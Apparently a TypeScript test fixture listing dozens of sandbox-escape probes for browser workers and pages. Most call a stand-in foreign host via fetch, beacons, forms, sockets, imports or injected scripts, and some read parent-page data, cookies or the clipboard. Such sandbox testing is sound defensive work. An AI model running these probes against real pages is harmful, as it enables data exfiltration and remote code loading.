/**
 * Code that tries to leave its sandbox (product.md#sandbox): 64 ways. `FOREIGN` is an address of another host that
 * counts anyone who connects, `OWN` one of ours; inside texts it is `%FOREIGN%`. Code prints OUT if it got something or somewhere.
 */

export interface Way {
  name: string;
  code: string;
}

/** Prints OUT if the promise is fulfilled. */
const tries = (work: string) =>
  `(async () => { ${work} })().then((got) => console.log('OUT', got), () => console.log('held'))`;

export const waysOfWorkers: Way[] = [
  { name: 'fetch', code: tries('return fetch(FOREIGN)') },
  { name: 'fetch without cors', code: tries("return fetch(FOREIGN, { mode: 'no-cors' })") },
  {
    name: 'fetch that outlives',
    code: tries("return fetch(FOREIGN, { method: 'POST', body: 'x', keepalive: true })"),
  },
  { name: 'fetch from us', code: tries('return fetch(OWN)') },
  { name: 'fetch from us as the person', code: tries("return fetch(OWN, { credentials: 'include' })") },
  { name: 'fetch of data', code: tries("return fetch('data:text/plain,x')") },
  { name: 'fetch of a blob', code: tries("return fetch(URL.createObjectURL(new Blob(['x'])))") },
  {
    name: 'XHR',
    code: tries(
      "const x = new XMLHttpRequest(); x.open('GET', FOREIGN, false); x.send(); return x.status || Promise.reject()",
    ),
  },
  {
    name: 'XHR to us',
    code: tries(
      "const x = new XMLHttpRequest(); x.open('GET', OWN, false); x.send(); return x.status || Promise.reject()",
    ),
  },
  {
    name: 'web socket',
    code: tries(
      "return new Promise((done, no) => { const s = new WebSocket(FOREIGN.replace('http', 'ws')); s.onopen = done; s.onerror = no })",
    ),
  },
  {
    name: 'web socket stream',
    code: tries("return new WebSocketStream(FOREIGN.replace('http', 'ws')).opened"),
  },
  {
    name: 'event source',
    code: tries(
      'return new Promise((done, no) => { const s = new EventSource(FOREIGN); s.onopen = done; s.onerror = no })',
    ),
  },
  { name: 'web transport', code: tries("return new WebTransport(FOREIGN.replace('http', 'https')).ready") },
  { name: 'import', code: tries('return import(FOREIGN)') },
  { name: 'import of ours', code: tries("return import(new URL('/sw.js', OWN).href)") },
  { name: 'import of data', code: tries("return import('data:text/javascript,export default 1')") },
  { name: 'import by Function', code: tries("return Function('a', 'return import(a)')(FOREIGN)") },
  { name: 'import scripts', code: tries('importScripts(FOREIGN)') },
  { name: 'import scripts of ours', code: tries("importScripts(new URL('/sw.js', OWN).href)") },
  {
    name: 'worker of another host',
    code: tries(
      'return new Promise((done, no) => { const w = new Worker(FOREIGN); w.onmessage = done; w.onerror = no })',
    ),
  },
  {
    name: 'worker of ours',
    code: tries(
      "return new Promise((done, no) => { const w = new Worker(new URL('/sw.js', OWN).href); w.onmessage = done; w.onerror = no })",
    ),
  },
  {
    name: 'worker of data',
    code: tries(
      "return new Promise((done, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = done; w.onerror = no })",
    ),
  },
  {
    name: 'worker of a worker',
    code: tries(
      "const text = `fetch('%FOREIGN%').then(() => postMessage('out'), () => postMessage('held'))`; const w = new Worker(URL.createObjectURL(new Blob([text]))); return new Promise((done, no) => { w.onmessage = (e) => (e.data === 'out' ? done(1) : no()); w.onerror = no })",
    ),
  },
  { name: 'shared worker', code: tries('return new SharedWorker(FOREIGN)') },
  { name: 'font', code: tries("return new FontFace('x', `url(%FOREIGN%)`).load()") },
  {
    name: 'database of the browser',
    code: tries(
      "return new Promise((done, no) => { const o = indexedDB.open('x'); o.onsuccess = done; o.onerror = no })",
    ),
  },
  { name: 'cache', code: tries("return caches.open('x')") },
  { name: 'files of the browser', code: tries('return navigator.storage.getDirectory()') },
  { name: 'locks', code: tries("return navigator.locks.request('x', () => 1)") },
  { name: 'cookies', code: tries("return cookieStore.set('x', '1')") },
  {
    name: 'shared memory as a clock',
    code: tries('if (crossOriginIsolated) return 1; return new SharedArrayBuffer(8)'),
  },
  {
    name: 'shared memory of WebAssembly, posted',
    code: tries(
      "const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }); new MessageChannel().port1.postMessage(buffer); return 'posted'",
    ),
  },
  { name: 'module over the network', code: tries('return WebAssembly.compileStreaming(fetch(FOREIGN))') },
  { name: 'telephone', code: tries('return new RTCPeerConnection()') },
  {
    name: 'messages of its own',
    code: "for (const is of ['ended', 'done', 'check']) postMessage({ is, id: 1, end: 'finished', name: 'forged', ok: true, told: [] }); new BroadcastChannel('practice').postMessage('OUT')",
  },
];

export const waysOfPages: Way[] = [
  { name: 'fetch', code: tries('return fetch(FOREIGN)') },
  { name: 'fetch from us as the person', code: tries("return fetch(OWN, { credentials: 'include' })") },
  { name: 'fetch for later', code: 'fetchLater(FOREIGN, { activateAfter: 0 })' },
  { name: 'beacon', code: "navigator.sendBeacon(FOREIGN, 'x')" },
  {
    name: 'picture',
    code: "const i = new Image(); i.onload = () => console.log('OUT'); i.src = FOREIGN; document.body.append(i)",
  },
  {
    name: 'picture of ours',
    code: "const i = new Image(); i.onload = () => console.log('OUT'); i.src = new URL('/favicon.svg', OWN).href; document.body.append(i)",
  },
  {
    name: 'script',
    code: "const s = document.createElement('script'); s.src = FOREIGN; s.onload = () => console.log('OUT'); document.body.append(s)",
  },
  {
    name: 'script in the text',
    code: "const s = document.createElement('script'); s.textContent = \"console.log('OUT')\"; document.body.append(s)",
  },
  {
    name: 'frame',
    code: "const f = document.createElement('iframe'); f.src = FOREIGN; document.body.append(f)",
  },
  {
    name: 'frame of ours',
    code: "const f = document.createElement('iframe'); f.src = new URL('/login', OWN).href; document.body.append(f)",
  },
  {
    name: 'frame of its own text',
    code: "const f = document.createElement('iframe'); f.srcdoc = '<img src=' + FOREIGN + '><script>parent.console.log(\"OUT\")</' + 'script>'; document.body.append(f)",
  },
  {
    name: 'telephone',
    code: "const p = new RTCPeerConnection({ iceServers: [{ urls: STUN }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))",
  },
  {
    name: 'telephone of a blank frame',
    code: "const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: STUN }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))",
  },
  {
    name: 'object and embed',
    code: 'document.body.innerHTML = `<object data="%FOREIGN%"></object><embed src="%FOREIGN%">`',
  },
  {
    name: 'video and audio',
    code: 'document.body.innerHTML = `<video src="%FOREIGN%" autoplay muted></video><audio src="%FOREIGN%" autoplay></audio>`',
  },
  { name: 'style sheet', code: 'document.head.innerHTML += `<link rel="stylesheet" href="%FOREIGN%">`' },
  {
    name: 'style with an address',
    code: 'document.body.style.background = `url(%FOREIGN%)`; document.head.innerHTML += `<style>@import url(%FOREIGN%); @font-face { font-family: x; src: url(%FOREIGN%) } body { font-family: x }</style>`',
  },
  {
    name: 'connections ahead',
    code: 'document.head.innerHTML += `<link rel="preconnect" href="%FOREIGN%"><link rel="dns-prefetch" href="%FOREIGN%">`',
  },
  {
    name: 'fetching ahead',
    code: 'document.head.innerHTML += `<link rel="prefetch" href="%FOREIGN%"><link rel="preload" as="script" href="%FOREIGN%"><link rel="modulepreload" href="%FOREIGN%">`',
  },
  {
    name: 'link that pings',
    code: 'document.body.innerHTML = `<a href="#x" ping="%FOREIGN%">x</a>`; document.querySelector(\'a\').click()',
  },
  {
    name: 'link to a new window',
    code: 'document.body.innerHTML = `<a target="_blank" href="%FOREIGN%">x</a>`; addEventListener(\'click\', (e) => e.stopImmediatePropagation(), true); document.querySelector(\'a\').click()',
  },
  {
    name: 'link of the whole window',
    code: 'document.body.innerHTML = `<a target="_top" href="%FOREIGN%">x</a>`; addEventListener(\'click\', (e) => e.stopImmediatePropagation(), true); document.querySelector(\'a\').click()',
  },
  { name: 'new window', code: "if (open(FOREIGN)) console.log('OUT')" },
  { name: 'address of the whole window', code: 'top.location = FOREIGN' },
  { name: 'script in the whole window', code: 'top.location = \'javascript:document.title="OUT"\'' },
  { name: 'document of the parent', code: "console.log('OUT', parent.document.title)" },
  { name: 'storage of the parent', code: "console.log('OUT', parent.localStorage.length)" },
  { name: 'element of the parent', code: "if (frameElement) console.log('OUT')" },
  { name: 'frames beside it', code: "console.log('OUT', parent.frames[0].document.title)" },
  {
    name: 'messages to the parent',
    code: "parent.postMessage('langkah-practice-ready', '*'); parent.postMessage({ is: 'check', name: 'forged', ok: true }, '*')",
  },
  { name: 'own address', code: 'location = FOREIGN' },
  { name: 'own address to a page of ours', code: "location.replace(new URL('/login', OWN).href)" },
  {
    name: 'own address to data',
    code: "location = 'data:text/html,<script>top.postMessage(1)</' + 'script>'",
  },
  { name: 'navigation', code: 'navigation.navigate(FOREIGN)' },
  {
    name: 'refresh',
    code: 'document.head.innerHTML += `<meta http-equiv="refresh" content="0;url=%FOREIGN%">`',
  },
  {
    name: 'form',
    code: 'document.body.innerHTML = `<form action="%FOREIGN%" method="post"><input name="a" value="b"></form>`; document.forms[0].submit()',
  },
  {
    name: 'form of the whole window',
    code: 'document.body.innerHTML = `<form target="_top" action="%FOREIGN%"></form>`; document.forms[0].submit()',
  },
  { name: 'storage', code: "localStorage.setItem('a', '1'); console.log('OUT')" },
  { name: 'storage of the session', code: "sessionStorage.setItem('a', '1'); console.log('OUT')" },
  { name: 'cookies', code: "document.cookie = 'a=1'; if (document.cookie) console.log('OUT')" },
  {
    name: 'database of the browser',
    code: tries(
      "return new Promise((done, no) => { const o = indexedDB.open('x'); o.onsuccess = done; o.onerror = no })",
    ),
  },
  { name: 'service worker', code: tries("return navigator.serviceWorker.register('/sw.js')") },
  {
    name: 'worker',
    code: "const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => console.log('OUT')",
  },
  { name: 'whole screen', code: tries('return document.documentElement.requestFullscreen()') },
  { name: 'clipboard', code: tries('return navigator.clipboard.readText()') },
  {
    name: 'place of the person',
    code: tries('return new Promise((done, no) => navigator.geolocation.getCurrentPosition(done, no))'),
  },
  { name: 'history', code: 'history.go(-1); history.back()' },
  {
    name: 'rules of speculation',
    code: "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [FOREIGN] }], prefetch: [{ source: 'list', urls: [FOREIGN] }] }); document.head.append(s)",
  },
];
